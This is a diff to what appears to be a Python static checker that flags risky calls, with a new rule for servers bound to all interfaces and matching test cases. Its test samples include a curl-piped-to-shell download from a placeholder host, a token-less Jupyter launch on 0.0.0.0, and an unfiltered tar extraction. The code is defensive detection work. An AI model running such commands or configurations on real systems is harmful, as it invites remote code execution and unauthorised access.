@@ -132,6 +132,10 @@ def _calls(call):
         value = argument.value
         if fine and not (isinstance(value, ast.Constant) and value.value in fine):
             found.add(argument.arg)
+    if name.endswith(("HTTPServer", "TCPServer", "create_server", ".bind")) and call.args:
+        host = call.args[0].elts[0] if isinstance(call.args[0], ast.Tuple) else None
+        everywhere = isinstance(host, ast.Constant) and host.value in ("", "0.0.0.0", "::")
+        found |= {"open server"} if everywhere else set()
     if name.endswith("extractall") and not any(a.arg == "filter" for a in call.keywords):
         found |= {"extractall"} if "tar" in name.lower() else set()
     return found
@@ -198,6 +202,9 @@ def test_nothing_is_done_that_the_page_says_is_not_done():
         ("'''exec(text) is not done here'''", set()),
         ("lab(['--IdentityProvider.token='])", {"no token"}),
         ("lab(['--ServerApp.password=', '--ip=0.0.0.0'])", {"no token", "open server"}),
+        ("ThreadingHTTPServer(('', 0), Handler)", {"open server"}),
+        ("sock.bind(('0.0.0.0', 80))", {"open server"}),
+        ("ThreadingHTTPServer(('127.0.0.1', 0), Handler)\nserver.bind(address)", set()),
         ("lab([f'--IdentityProvider.token={TOKEN}'])", set()),
         ("_ = '!curl https://a.b/c.sh | sh'", {"downloaded script"}),
     ],
